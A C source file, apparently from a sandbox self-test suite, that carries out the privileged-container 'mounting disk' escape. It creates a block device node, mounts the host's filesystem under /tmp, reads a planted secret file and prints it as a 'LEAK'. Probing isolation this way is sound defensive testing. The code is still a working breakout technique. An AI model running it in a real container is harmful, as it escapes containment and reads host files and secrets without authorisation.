/* Mounting the host's disk with CAP_SYS_ADMIN and CAP_MKNOD: the
 * classic `--privileged` breakout (make the node, mount it, read or
 * write any host file; https://book.hacktricks.wiki/en/linux-hardening/privilege-escalation/docker-security/docker-breakout-privilege-escalation/index.html
 * "Mounting Disk"). Mounts the file system of "/" a second time (the same
 * superblock: nothing is written) and reads the runner's secret at its
 * path inside that file system (SELFTEST_SECRET_IN_FS). */
#include "attack.h"
#include "blockdev.h"

#include <fcntl.h>
#include <sys/mount.h>
#include <unistd.h>

int attack_mount_blockdev(void) {
    const char *rel = need_env("SELFTEST_SECRET_IN_FS");
    dev_t dev;
    MAKE_DISK_NODE(dev);
    mkdir("/tmp/selftest-mnt", 0700);
    static const char *types[] = {"ext4", "xfs", "btrfs", "ext3", "ext2"};
    int mounted = -1;
    for (unsigned i = 0; i < sizeof types / sizeof types[0] && mounted < 0; i++) {
        /* Same read-only state as the host's mount, else EBUSY. */
        mounted = mount(DISK_NODE, "/tmp/selftest-mnt", types[i], 0, NULL);
        if (mounted < 0 && errno == EBUSY)
            mounted = mount(DISK_NODE, "/tmp/selftest-mnt", types[i], MS_RDONLY, NULL);
        if (mounted < 0)
            printf("mount as %s: %s\n", types[i], errname(errno));
    }
    if (mounted < 0)
        BLOCKED_ERRNO("mount the block device");
    char path[4200];
    snprintf(path, sizeof path, "/tmp/selftest-mnt/%s", rel);
    int fd = open(path, O_RDONLY);
    char buf[256] = "";
    long got = fd < 0 ? -1 : read_all(fd, buf, sizeof buf);
    int e = errno;
    if (fd >= 0)
        close(fd);
    umount2("/tmp/selftest-mnt", MNT_DETACH);
    if (got < 0) {
        errno = e;
        BLOCKED_ERRNO("read the secret on the mounted disk");
    }
    printf("LEAK %s\n", buf);
    WORKED("mounted the host's disk and read a host file");
}
